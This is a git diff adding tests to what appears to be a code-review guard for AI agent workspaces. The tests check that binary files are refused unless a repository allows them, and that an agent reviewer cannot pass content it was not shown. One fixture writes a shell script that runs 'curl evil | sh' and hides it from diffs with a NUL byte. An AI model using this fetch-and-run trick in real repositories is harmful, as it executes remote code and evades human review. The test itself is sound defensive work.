@@ -95,6 +95,16 @@ def test_an_unchecked_revision_never_counts(wsbus):
             lambda ws: (ws / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = ../x\n'),
             "ORG-SUBMODULE",
         ),
+        # content no reviewer sees: one NUL byte makes a shell script 'Binary files ... differ' (bash runs it)
+        (lambda ws: (ws / "build.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n\x00\n"), "ORG-BINARY-FILE"),
+        # build output of a test run (byte code) is binary too: it never enters a revision
+        (
+            lambda ws: (
+                (ws / "src" / "__pycache__").mkdir(),
+                (ws / "src" / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"\xa7\r\r\n\x00\x00"),
+            ),
+            "ORG-BINARY-FILE",
+        ),
     ],
 )
 def test_the_diff_guard_denies_with_rule_and_source(wsbus, change, rule):
@@ -127,6 +137,50 @@ def test_a_human_is_checked_too(wsbus):
     (ws / "tests" / "test_app.py").write_text("")
     with pytest.raises(Denied, match="ORG-GOLDEN-FILE"):
         check_revision(wsbus, job, "alice")
+
+
+def test_a_binary_file_is_refused_to_a_human_too_unless_the_repository_welcomes_it_there(ws_org, request):
+    """ORG-BINARY-FILE binds everyone; `binary:` globs in gates/repos.yaml name where binary files may enter."""
+    repos = ws_org / "gates" / "repos.yaml"
+    repos.write_text(
+        repos.read_text().replace("    merge: merge\n", '    merge: merge\n    binary: ["assets/**"]\n')
+    )
+    bus = request.getfixturevalue("wsbus")
+    task, ws, job, jt, g = _start(bus)
+    (ws / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
+    with pytest.raises(Denied, match="ORG-BINARY-FILE") as e:
+        check_revision(bus, job, "alice")
+    f = next(f for f in e.value.detail["findings"] if f["rule"] == "ORG-BINARY-FILE")
+    assert f["path"] == "logo.png" and f["source"].startswith("gates/repos.yaml:")
+    (ws / "assets").mkdir(exist_ok=True)
+    (ws / "logo.png").replace(ws / "assets" / "logo.png")
+    res = check_revision(bus, job, "build-claude")
+    assert res["binary"] == ["assets/logo.png"]
+
+
+def test_an_agent_reviewer_may_not_pass_a_revision_whose_content_it_was_not_shown(ws_org, request):
+    """Server side: an external reviewer (over the CLI or the socket) that passes a diff holding content no
+    diff shows (a binary file where the repository welcomes them) is refused; 'changes' goes through."""
+    from org.workspaces.service import revision_patch
+
+    repos = ws_org / "gates" / "repos.yaml"
+    repos.write_text(
+        repos.read_text().replace("    merge: merge\n", '    merge: merge\n    binary: ["assets/**"]\n')
+    )
+    bus = request.getfixturevalue("wsbus")
+    task, ws, job, jt, g = _start(bus)
+    (ws / "assets").mkdir()
+    (ws / "assets" / "run.sh").write_bytes(b"#!/bin/sh\necho hi\n\x00\n")
+    res = check_revision(bus, job, "build-claude")
+    g.submit(jt, job, "pass", revision=res["commit"])
+    shown = revision_patch(bus, task, res["commit"])
+    assert shown["unseen"] == ["assets/run.sh"]
+    c, rt = g.claim(bus.tokens["rev-gpt"], "reviewer", "rev-gpt")
+    assert c.task == task and c.kind == "review"
+    with pytest.raises(Denied, match="assets/run.sh") as e:
+        check_revision(bus, c.job, "rev-gpt")
+    assert e.value.detail["rule"] == "ORG-UNSEEN-CONTENT"
+    assert g.submit(rt, c.job, "changes", note="I cannot read assets/run.sh")["ok"]
 
 
 def test_named_commit_must_be_on_the_workspace_branch(wsbus, source):
